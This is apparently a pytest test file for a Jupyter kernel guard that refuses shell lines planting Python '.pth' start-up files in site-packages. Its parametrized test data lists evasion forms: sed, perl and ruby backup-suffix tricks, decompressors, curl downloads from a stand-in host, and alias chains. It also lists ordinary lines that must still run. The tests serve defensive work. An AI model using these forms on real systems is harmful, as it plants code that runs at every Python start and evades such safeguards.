"""Fix 40 (red team 37b R37b-1..4): neighbours of the proofs' lines, read without a process
started (``launched.line_refusal``): the forms an attacker tries next must be refused, the
ordinary forms beside them must still run."""

import glob
import os
import subprocess
import sys

import pytest
from launched import line_refusal


@pytest.fixture(scope="module")
def venv(tmp_path_factory):
    root = tmp_path_factory.mktemp("fix40")
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(root / "v")], check=True)
    (root / "w" / "data").mkdir(parents=True)
    return root


def _reading(line: str, venv) -> str:
    site = glob.glob(str(venv / "v" / "lib" / "python3*" / "site-packages"))[0]
    line = line.replace("LIB", os.path.dirname(site)).replace("SITE", site)
    line = line.replace("V/", f"{venv}/v/")
    return line_refusal(line, venv / "w", {})


@pytest.mark.parametrize(
    "line",
    [  # R37b-1: the backup's name from a `*` suffix, one with a folder, one Warden cannot read
     "sed -i'*.pth' s/a/b/ SITE/zz && V/bin/python -c pass",
     "cd LIB && sed -i'site-packages/*.pth' s/a/b/ zz && V/bin/python -c pass",
     "sed -i\"$SUFFIX\" s/a/b/ SITE/zz && V/bin/python -c pass",
     "perl -pi'*.pth' -e '' SITE/zz && V/bin/python -c pass",
     "ruby -i.pth -pe '' SITE/zz && V/bin/python -c pass",
     # R37b-2: other derived names beside a word
     "gpg -d SITE/zz.pth.gpg && V/bin/python -c pass",
     "lz4 -d SITE/zz.pth.lz4 && V/bin/python -c pass",
     "cd LIB && unxz site-packages/zz.pth.xz; V/bin/python -c pass",
     # R37b-3: a URL glob's `#N`, wget in the folder it runs in, curl --remote-name-all
     "curl -o 'SITE/zz#1.pth' 'https://example.invalid/{a,b}' && V/bin/python -c pass",
     "curl --remote-name-all --output-dir SITE https://example.invalid/zz.pth && "
     "V/bin/python -c pass",
     # R37b-4: an alias of a writer, its arguments after it, one ending in a blank
     "alias c=cp\nc p.pth SITE/zz.pth\nV/bin/python -c pass",
     "alias x='bunzip2'\nx SITE/zz.pth.bz2\nV/bin/python -c pass",
     "alias n='nice ' c=cp\nn c p.pth SITE/zz.pth\nV/bin/python -c pass"],
)  # fmt: skip
def test_a_derived_start_up_name_is_refused(venv, line):
    refused = _reading(line, venv)
    assert "site-packages" in refused or "alias" in refused or "SUFFIX" in refused, refused


def test_an_alias_whose_value_is_more_than_one_command_is_refused(venv):
    refused = _reading("alias x='cp p.pth SITE/zz.pth; true'\nx\nV/bin/python -c pass", venv)
    assert "alias x" in refused, refused


@pytest.mark.parametrize(
    "line",
    ["curl -sLO https://example.invalid/data.csv && V/bin/python t.py",
     "wget -q -P data https://example.invalid/d.zip && V/bin/python t.py",
     "curl -o 'data/part#1.csv' 'https://example.invalid/{a,b}.csv' && V/bin/python t.py",
     "sed -i.bak s/a/b/ data/conf.txt && V/bin/python t.py",
     "perl -pi.orig -e 's/a/b/' data/conf.txt && V/bin/python t.py",
     "bunzip2 data/d.csv.bz2 && V/bin/python t.py",
     "xz -d V/d.xz && V/bin/python t.py",
     "zstd -d data/e.zst && V/bin/python t.py",
     "rsync -b --suffix=.old data/a.csv data/b.csv && V/bin/python t.py",
     "alias ll='ls -l'\nll data\nV/bin/python t.py",
     "alias x='cp p.pth SITE/zz.pth'\nunalias x\nls\nV/bin/python t.py"],
)  # fmt: skip
def test_the_ordinary_forms_run(venv, line):
    assert _reading(line, venv) == ""


def test_a_child_perl_backup_suffix_naming_its_site_folder_is_refused(tmp_path):
    """A Python the kernel starts running `perl -i'<site>/*.pth'` on a file elsewhere: the
    backup lands in its site folder under a start-up name (``start_writes.unlisted_writes``)."""
    from jupyterlab_warden.kernel.guard.installs.start_writes import unlisted_writes

    site = next(p for p in sys.path if p.endswith("site-packages"))
    argv = ["perl", f"-i{site}/*.pth", "-pe", "", "zz"]
    assert site in unlisted_writes(argv, str(tmp_path))
    assert unlisted_writes(["perl", "-i.bak", "-pe", "", "zz"], str(tmp_path)) == ""
